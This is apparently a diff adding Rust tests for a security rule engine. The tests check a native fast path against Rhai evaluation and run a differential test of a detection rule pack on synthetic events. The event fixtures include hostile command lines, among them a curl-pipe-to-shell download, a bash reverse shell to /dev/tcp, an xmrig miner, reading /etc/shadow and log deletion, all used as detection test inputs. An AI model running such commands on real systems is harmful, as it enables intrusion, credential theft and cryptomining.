+
+    use serde_json::{json, Value};
+
+    use super::*;
+    use crate::engine::{BatchOutcome, RuleEngine, RuleSpec};
+
+    fn compiled(source: &str, limits: &Limits) -> Option<FastPath> {
+        let mut engine = rhai::Engine::new_raw();
+        engine.register_global_module(rhai::packages::Package::as_shared_module(
+            &rhai::packages::StandardPackage::new(),
+        ));
+        let mut scope = rhai::Scope::new();
+        scope.push_dynamic("event", Dynamic::UNIT);
+        let ast = engine
+            .compile_with_scope(&scope, source)
+            .expect("test source compiles");
+        FastPath::compile(&ast, limits)
+    }
+
+    fn quiet(source: &str, event: Value) -> bool {
+        let fast = compiled(source, &Limits::default()).expect("has a fast path");
+        let event: Dynamic = rhai::serde::to_dynamic(&event).expect("event converts");
+        let mut host = HostData::default();
+        host.lists.insert(
+            "shells".into(),
+            ["/bin/sh".to_string()].into_iter().collect(),
+        );
+        fast.quiet(&event, &host, &mut Locals::default())
+    }
+
+    #[test]
+    fn guards_are_decided_natively_and_the_rest_is_left_to_rhai() {
+        let rule = r#"if event.proc.action != "exec" { return; }
+                      if in_list(event.proc.exe, "shells") { emit(); }"#;
+        let exec = |exe: &str| json!({"proc": {"action": "exec", "exe": exe}});
+        assert!(quiet(rule, json!({"proc": {"action": "exit"}})));
+        assert!(
+            quiet(rule, exec("/bin/ls")),
+            "false condition: nothing happens"
+        );
+        assert!(!quiet(rule, exec("/bin/sh")), "emit is Rhai's");
+    }
+
+    #[test]
+    fn anything_rhai_would_fail_on_or_that_is_not_modelled_goes_to_rhai() {
+        let rule = r#"if event.proc.action != "exec" { return; }"#;
+        // A property of a missing map is an error in Rhai; a missing field is `()`, which
+        // is unequal to any string, as a number is.
+        assert!(!quiet(rule, json!({"net": {}})));
+        assert!(quiet(rule, json!({"proc": {}})));
+        assert!(quiet(rule, json!({"proc": {"action": 7}})));
+        assert!(
+            !quiet("if event.n < \"x\" { return; }", json!({"n": 1})),
+            "an error in Rhai"
+        );
+        assert!(!quiet("if event.x { return; }", json!({"x": "not a bool"})));
+        assert!(!quiet(
+            r#"let p = event.path.split("/"); if p[9] == "" { return; }"#,
+            json!({"path": "/a"})
+        ));
+        assert!(!quiet(
+            "if event.n + 1 > 0 { return; }",
+            json!({"n": i64::MAX})
+        ));
+        assert!(quiet(r#"if 1.5 == event.f { return; }"#, json!({"f": 1.5})));
+        assert!(quiet(r#"if event.f >= 1.5 { return; }"#, json!({"f": 2.5})));
+        // Rhai's float comparisons are relative: these hold in Rhai, not in exact arithmetic.
+        let tiny = json!({"zero": 0.0, "tiny": -1e-115, "one": 1, "near": 1.0000000000000002});
+        assert!(quiet(
+            "if event.zero <= event.tiny { return; } emit();",
+            tiny.clone()
+        ));
+        assert!(quiet(
+            "if event.one == event.near { return; } emit();",
+            tiny.clone()
+        ));
+        assert!(!quiet(
+            "if event.zero < event.tiny { return; } emit();",
+            tiny
+        ));
+    }
+
+    #[test]
+    fn values_follow_rhai_semantics() {
+        let quiet_if = |condition: &str, event: Value| {
+            quiet(&format!("if {condition} {{ return; }} emit();"), event)
+        };
+        let e = json!({"s": "Ab.c", "n": 3, "m": {"k": "v"}, "empty": ""});
+        assert!(quiet_if(r#"event.s.len() == 4"#, e.clone()));
+        assert!(quiet_if(r#"event.s.to_lower() == "ab.c""#, e.clone()));
+        assert!(quiet_if(r#"event.s.to_upper() == "AB.C""#, e.clone()));
+        assert!(quiet_if(r#"event.s.split(".")[1] == "c""#, e.clone()));
+        assert!(quiet_if(r#"event.empty.split(".").len() == 1"#, e.clone()));
+        assert!(quiet_if(r#"event.n.to_string() + "x" == "3x""#, e.clone()));
+        assert!(quiet_if(r#"(event.missing ?? "d") == "d""#, e.clone()));
+        assert!(quiet_if(r#"event.m.k in ["a", "v"]"#, e.clone()));
+        assert!(quiet_if(r#"!(event.n in [1, 2])"#, e.clone()));
+        assert!(quiet_if(
+            r#"glob(event.s, "A*") && !re_match(event.s, "^x")"#,
+            e.clone()
+        ));
+        assert!(quiet_if(r#"!glob(event.missing, "*")"#, e.clone()));
+        assert!(quiet_if(
+            r#"(if event.n > 2 { "big" } else { "small" }) == "big""#,
+            e.clone()
+        ));
+        assert!(quiet_if(
+            r#"event.s.contains("b.") && event.s.ends_with("c")"#,
+            e.clone()
+        ));
+        assert!(quiet_if(r#"cidr("10.1.2.3", "10.0.0.0/8")"#, e.clone()));
+        assert!(quiet_if(r#"entropy("aabb") >= entropy("abab")"#, e.clone()));
+        assert!(quiet_if(r#"entropy("aabb") == 1.0"#, e));
+    }
+
+    #[test]
+    fn results_past_the_size_limits_are_left_to_rhai() {
+        let limits = Limits {
+            max_string_size: 8,
+            max_array_size: 2,
+            ..Limits::default()
+        };
+        let host = HostData::default();
+        let check = |source: &str, s: &str| {
+            let fast = compiled(source, &limits).expect("fast");
+            let event = rhai::serde::to_dynamic(json!({"s": s})).expect("event");
+            fast.quiet(&event, &host, &mut Locals::default())
+        };
+        let upper = r#"if event.s.to_upper() == "" { return; }"#;
+        assert!(check(upper, "ABC"));
+        // Unchanged, but a function's result all the same: Rhai checks its size.
+        assert!(!check(upper, "ABCDEFGHIJ"));
+        assert!(!check(r#"if event.s + "xyz" == "" { return; }"#, "abcdefg"));
+        assert!(!check(
+            r#"if event.s.split(".").len() == 0 { return; }"#,
+            "a.b.c"
+        ));
+        assert!(check(
+            r#"if event.s.split(".").len() == 0 { return; }"#,
+            "a.b"
+        ));
+    }
+
+    #[test]
+    fn loops_and_assignments_run_natively_within_the_operation_limit() {
+        let rule = r#"let labels = event.q.split(".");
+            let n = labels.len();
+            let suffix = labels[n - 1];
+            for i in 1..=n {
+                if suffix == "bad.example" { emit(); return; }
+                if i < n { suffix = labels[n - 1 - i] + "." + suffix; }
+            }"#;
+        assert!(quiet(rule, json!({"q": "a.b.good.example"})));
+        assert!(
+            !quiet(rule, json!({"q": "a.b.bad.example"})),
+            "emit is Rhai's"
+        );
+        let limits = Limits {
+            max_operations: 2_000,
+            ..Limits::default()
+        };
+        let spin = compiled("let x = 0; for i in 0..event.n { x = i; }", &limits).expect("fast");
+        let host = HostData::default();
+        let run = |n: i64| {
+            let event = rhai::serde::to_dynamic(json!({"n": n})).expect("event");
+            spin.quiet(&event, &host, &mut Locals::default())
+        };
+        assert!(run(10));
+        assert!(!run(1_000), "near the operation limit Rhai decides");
+    }
+
+    #[test]
+    fn no_fast_path_when_it_could_never_finish_or_cannot_be_trusted() {
+        let limits = Limits::default();
+        assert!(
+            compiled("emit();", &limits).is_none(),
+            "opaque from the start"
+        );
+        assert!(
+            compiled("for i in 0..event.n { emit(); }", &limits).is_some(),
+            "may run 0 times"
+        );
+        assert!(compiled("loop { return; }", &limits).is_none());
+        assert!(compiled("let x = 1; emit();", &limits).is_none());
+        assert!(compiled("if event.a == 1 { return; } emit();", &limits).is_some());
+        assert!(
+            compiled(
+                "fn glob(a, b) { true } if glob(event.a, \"*\") { return; }",
+                &limits
+            )
+            .is_none(),
+            "script functions may shadow the native ones"
+        );
+        let tight = Limits {
+            max_operations: 10,
+            ..Limits::default()
+        };
+        assert!(
+            compiled("if event.a == 1 { return; } emit();", &tight).is_none(),
+            "Rhai could run out of operations where the fast path would not"
+        );
+    }
+
+    // --- The whole core pack, with and without the fast path, on the same events ---
+
+    fn pack_dir() -> std::path::PathBuf {
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/core")
+    }
+
+    fn core_engine(fast: bool, windows: bool) -> RuleEngine {
+        let mut engine = RuleEngine::new(Limits::default()).expect("limits");
+        engine.set_fast_path(fast);
+        let mut specs = Vec::new();
+        for entry in std::fs::read_dir(pack_dir()).expect("rules/core") {
+            let path = entry.expect("entry").path();
+            if path.extension().is_some_and(|e| e == "rhai") {
+                let source = std::fs::read_to_string(&path).expect("rule");
+                if !windows && source.contains("window_") {
+                    continue;
+                }
+                specs.push(RuleSpec {
+                    id: path.file_stem().unwrap().to_string_lossy().into_owned(),
+                    source,
+                    // Every rule sees every kind: fields of other kinds are missing.
+                    kinds: None,
+                    capabilities: vec!["enrich".into()],
+                    ..RuleSpec::default()
+                });
+            }
+        }
+        specs.sort_by(|a, b| a.id.cmp(&b.id));
+        engine.replace_all(specs).expect("core pack compiles");
+        for entry in std::fs::read_dir(pack_dir().join("lists")).expect("lists") {
+            let path = entry.expect("entry").path();
+            let text = std::fs::read_to_string(&path).expect("list");
+            let values = text
+                .lines()
+                .map(str::trim)
+                .filter(|l| !l.is_empty() && !l.starts_with('#'))
+                .map(str::to_string)
+                .collect();
+            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
+            engine.set_list(name, values);
+        }
+        let intel = [(
+            "203.0.113.7".to_string(),
+            rhai::serde::to_dynamic(json!({"reputation": "malicious", "feed": "t"})).unwrap(),
+        )]
+        .into_iter()
+        .collect();
+        engine.set_enrichment("ip".into(), intel);
+        engine
+    }
+
+    fn base_events() -> Vec<Value> {
+        let host = json!({"id": "h-1", "name": "web-1"});
+        let ts = "2026-12-03T08:00:00Z";
+        let proc = |action: &str, exe: &str, cmd: &str, parent: &str| {
+            json!({"kind": "proc", "ts": ts, "host": host, "proc": {"action": action,
+                   "exe": exe, "cmdline": cmd, "parent_exe": parent, "user": "www-data", "pid": 5}})
+        };
+        let file = |action: &str, path: &str, exe: &str| {
+            json!({"kind": "file", "ts": ts, "host": host, "file": {"action": action,
+                   "path": path, "new_path": format!("{path}.locked"), "exe": exe, "size": 0}})
+        };
+        let net = |ip: &str, port: i64| {
+            json!({"kind": "net", "ts": ts, "host": host, "net": {"action": "connect",
+                   "dst_ip": ip, "dst_port": port, "exe": "/usr/bin/python3"}})
+        };
+        let dns = |query: &str, qtype: &str| {
+            json!({"kind": "dns", "ts": ts, "host": host, "dns": {"query": query,
+                   "qtype": qtype, "answers": ["1.2.3.4"]}})
+        };
+        let auth = |action: &str, user: &str| {
+            json!({"kind": "auth", "ts": ts, "host": host, "auth": {"action": action,
+                   "user": user, "src_ip": "198.51.100.9"}})
+        };
+        vec![
+            proc(
+                "exec",
+                "/usr/bin/curl",
+                "curl -s http://x.example/a | sh",
+                "/bin/bash",
+            ),
+            proc(
+                "exec",
+                "/bin/bash",
+                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+                "/usr/sbin/nginx",
+            ),
+            proc(
+                "exec",
+                "/tmp/.x/xmrig",
+                "xmrig -o stratum+tcp://pool:3333 --donate-level 1",
+                "/bin/sh",
+            ),
+            proc("exec", "/usr/bin/cat", "cat /etc/shadow", "/bin/bash"),
+            proc("exec", "/usr/bin/ls", "ls -la", "/bin/bash"),
+            proc("exec", "/bin/sh", "sh -c 'history -c'", "/usr/sbin/nginx"),
+            proc("exit", "/usr/bin/ls", "ls", "/bin/bash"),
+            file("create", "/etc/cron.d/backdoor", "/usr/bin/vim"),
+            file("rename", "/home/a/doc.txt", "/tmp/enc"),
+            file("create", "/home/a/README_RESTORE_FILES.txt", "/tmp/enc"),
+            file("delete", "/var/log/auth.log", "/usr/bin/rm"),
+            file("modify", "/var/log/syslog", "/usr/sbin/rsyslogd"),
+            file("modify", "/home/a/notes", "/usr/bin/vim"),
+            net("203.0.113.7", 443),
+            net("198.51.100.3", 3333),
+            net("10.0.0.8", 4444),
+            json!({"kind": "net", "ts": ts, "host": host, "net": {"action": "flow", "dst_ip": "10.0.0.1", "dst_port": 53}}),
+            dns("a.b.update-cdn.example", "A"),
+            dns("qz3x9vbn4m2k8l7j6h5g4f3d2s1a0pqw.tunnel.example", "TXT"),
+            dns(&format!("{}.long.example", "a".repeat(120)), "A"),
+            dns("github.com", "AAAA"),
+            auth("failure", "root"),
+            auth("login", "root"),
+            auth("sudo", "mallory"),
+            auth("sudo", "root"),
+            auth("logout", "root"),
+        ]
+    }
+
+    /// Every event, then for each of its leaves: removed, null, a number, a string, a map.
+    fn mutations(event: &Value) -> Vec<Value> {
+        let mut out = vec![event.clone()];
+        let Value::Object(top) = event else {
+            return out;
+        };
+        for (key, value) in top {
+            let replacements = [
+                json!(null),
+                json!(7),
+                json!("x"),
+                json!({"a": 1}),
+                json!([]),
+            ];
+            for r in &replacements {
+                let mut e = event.clone();
+                e[key] = r.clone();
+                out.push(e);
+            }
+            let mut e = event.clone();
+            e.as_object_mut().unwrap().remove(key);
+            out.push(e);
+            if let Value::Object(inner) = value {
+                for field in inner.keys() {
+                    for r in replacements
+                        .iter()
+                        .chain([&json!(""), &json!(-1), &json!(true)])
+                    {
+                        let mut e = event.clone();
+                        e[key][field] = r.clone();
+                        out.push(e);
+                    }
+                    let mut e = event.clone();
+                    e[key].as_object_mut().unwrap().remove(field);
+                    out.push(e);
+                }
+            }
+        }
+        out
+    }
+
+    fn summary(out: &BatchOutcome) -> String {
+        format!(
+            "{:?}\n{:?}\n{:?}\n{}",
+            out.matches, out.failures, out.parse_errors, out.events
+        )
+    }
+
+    fn differential(windows: bool) {
+        let mut lines = Vec::new();
+        for event in base_events() {
+            for e in mutations(&event) {
+                lines.push(serde_json::to_vec(&e).unwrap());
+            }
+        }
+        lines.push(b"{not json".to_vec());
+        lines.push(b"[1, 2]".to_vec());
+        let mut fast = core_engine(true, windows);
+        let mut slow = core_engine(false, windows);
+        let rules = fast.rules().len();
+        assert!(
+            fast.fast_paths() + 1 >= rules,
+            "all but dns_bad_domain have a fast path"
+        );
+        let mut matched = 0;
+        for chunk in lines.chunks(97) {
+            let data = chunk.join(&b'\n');
+            let (a, b) = (fast.evaluate_jsonl(&data), slow.evaluate_jsonl(&data));
+            assert_eq!(summary(&a), summary(&b));
+            matched += a.matches.len();
+        }
+        let counts = |e: &RuleEngine| -> Vec<(String, u64, u64, u64)> {
+            e.stats()
+                .into_iter()
+                .map(|(id, s)| (id, s.evals, s.matches, s.failures))
+                .collect()
+        };
+        assert_eq!(counts(&fast), counts(&slow));
+        let native: u64 = fast.stats().iter().map(|(_, s)| s.native).sum();
+        let evals: u64 = fast.stats().iter().map(|(_, s)| s.evals).sum();
+        assert!(matched > 20, "the corpus raises alerts ({matched})");
+        // Rules see every kind here, and a chain through a missing map is Rhai's to report.
+        assert!(
+            native * 8 > evals,
+            "evaluations decided natively: {native} of {evals}"
+        );
+        assert_eq!(slow.stats().iter().map(|(_, s)| s.native).sum::<u64>(), 0);
+    }
+
+    #[test]
+    fn the_core_pack_gives_the_same_results_with_and_without_the_fast_path() {
+        differential(true);
+    }
+
+    #[test]
+    fn the_stateless_core_rules_agree_event_by_event() {
+        // Without window rules each event's outcome depends on that event alone.
+        differential(false);
+    }
+}
